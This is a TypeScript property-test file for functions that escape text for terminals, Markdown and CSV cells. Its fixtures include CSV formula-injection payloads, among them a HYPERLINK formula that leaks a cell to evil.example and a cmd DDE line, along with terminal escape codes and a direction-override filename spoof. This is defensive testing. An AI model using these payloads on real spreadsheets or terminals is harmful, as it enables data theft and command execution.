import fc from "fast-check";
import { forCsv, forMarkdown, forTerminal } from "../../findings/escape";

const RUN = { seed: 20_261_120, numRuns: 1000 };
/** Controls, separators, and marks that turn the direction of what follows. */
const UNPRINTABLE = ["\u0000", "\u001b", "\u001b[31m", "\r", "\n", "\t", "\u007f", "\u009b31m", "\u2028", "\u2029", "\u202e", "\u2066", "\u200f", "\u061c"];
const MARKUP = ["\\", "`", "*", "_", "{", "}", "[", "]", "(", ")", "#", "+", "!", "|", "~", ">", "-", "&", "<", "@", "://", "www.", "WWW.", "1.", "2)", "$", ":", ":x:", "#1", "&#119;", "http", "a", " "];
const glued = (pieces: readonly string[]): fc.Arbitrary<string> => fc.oneof(fc.string({ unit: "binary" }), fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 3 })), { maxLength: 12 }).map((parts) => parts.join("")));

/** What a reader sees of escaped Markdown in which nothing begins: backslashes, entities and zero-width spaces taken away. */
function read(markdown: string): string {
  const unescaped = markdown.replace(/\\([!-/:-@[-`{-~])/gu, "$1").replace(/\u200b/gu, "");
  return unescaped.replace(/&lt;/gu, "<").replace(/&#58;/gu, ":").replace(/&amp;/gu, "&").trimStart();
}

describe("text for a terminal", () => {
  it.each([
    ["plain text, ünïcode 字 too", "plain text, ünïcode 字 too"],
    ["\u001b[31mred\u001b[0m", "\\u001b[31mred\\u001b[0m"],
    ["one\ntwo\tthree\rfour", "one two three\\u000dfour"],
    ["\u202egpj.exe", "\\u202egpj.exe"],
    ["\u009b2J", "\\u009b2J"],
  ])("shows %j as %j", (got, shown) => {
    expect(forTerminal(got)).toBe(shown);
  });

  it("holds no control character, no newline and no change of direction, whatever it is made of", () => {
    fc.assert(
      fc.property(glued(UNPRINTABLE), (text) => {
        expect(forTerminal(text)).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u);
      }),
      RUN,
    );
  });

  it("leaves printable text as it is", () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(forTerminal(text)).toBe(text);
      }),
      RUN,
    );
  });
});

describe("text for Markdown", () => {
  it.each([
    ["**bold** _it_ `code` ~no~ $x$", "\\*\\*bold\\*\\* \\_it\\_ \\`code\\` \\~no\\~ \\$x\\$"],
    ["![x](https://evil.example)", "!\\[x\\](https:\u200b//evil.example)"],
    ["<img src=x> &lt;", "&lt;img src=x> &amp;lt;"],
    ["a | b", "a \\| b"],
    ["a \\| b", "a \\\\\\| b"],
    ["@everyone at soc@acme.example", "@\u200beveryone at soc@\u200bacme.example"],
    ["see www.evil.example", "see www\u200b.evil.example"],
    ["see WWW.evil.example", "see WWW\u200b.evil.example"],
    ["fixes #12 :tada:", "fixes #\u200b12 &#58;tada:"],
    ["1. first", "1\\. first"],
    ["2) second", "2\\) second"],
    ["# title", "\\# title"],
    ["  - item", "\\- item"],
    ["> quote", "\\> quote"],
    ["one\ntwo", "one two"],
    ["mailbox-opened (SOC): 1.5 + 2 > 3", "mailbox-opened (SOC): 1.5 + 2 > 3"],
  ])("shows %j as itself", (got, written) => {
    expect(forMarkdown(got)).toBe(written);
  });

  it("begins no cell, tag, code, link, image, emphasis, formula, list, quote or mention, whatever it is made of", () => {
    fc.assert(
      fc.property(glued([...MARKUP, ...UNPRINTABLE]), (text) => {
        const unescaped = forMarkdown(text).replace(/\\[!-/:-@[-`{-~]|&(?:amp|lt|#58);/gu, "x");
        expect(unescaped).not.toMatch(/[|<`[\]*_~$\\\n]/u);
        expect(unescaped).not.toMatch(/@(?!\u200b)|#(?=\d)|:\/\/|&/u);
        expect(forMarkdown(text)).not.toMatch(/^\s*(?:[#+>-]|\d+[.)])/u);
      }),
      RUN,
    );
  });

  it("reads back as the same text on one line", () => {
    fc.assert(
      fc.property(glued([...MARKUP, ...UNPRINTABLE]), (text) => {
        expect(read(forMarkdown(text))).toBe(forTerminal(text).replace(/\u200b/gu, "").trimStart());
      }),
      RUN,
    );
  });

  // GitHub makes a link of a www. after an underscore, where \b sees no boundary.
  it("begins no link by www. after an underscore", () => {
    expect(forMarkdown("_www.evil.example")).toBe("\\_www\u200b.evil.example");
  });
});

describe("text for a CSV cell", () => {
  const FORMULA = /^[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]/u;

  it.each([
    ["=HYPERLINK(\"https://evil.example?\"&A1)", "'=HYPERLINK(\"https://evil.example?\"&A1)"],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-1+1", "'-1+1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["\n=1+1", "'\n=1+1"],
    ["\u0000=1+1", "'\u0000=1+1"],
    ["\uff1d1+1", "'\uff1d1+1"],
    ["ann@contoso.com", "ann@contoso.com"],
    ["1+1=2", "1+1=2"],
    ["'=1+1", "'=1+1"],
    ["", ""],
  ])("is written of %j as %j", (text, written) => {
    expect(forCsv(text)).toBe(written);
  });

  it("never begins a formula, and but for the apostrophe is as it was, whatever it is made of", () => {
    fc.assert(
      fc.property(glued(["=", "+", "-", "@", "\t", "\r", "\n", "\u0000", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'", "\u202e"]), (text) => {
        expect(forCsv(text)).not.toMatch(FORMULA);
        expect(forCsv(text)).toBe(FORMULA.test(text) ? `'${text}` : text);
      }),
      RUN,
    );
  });
});
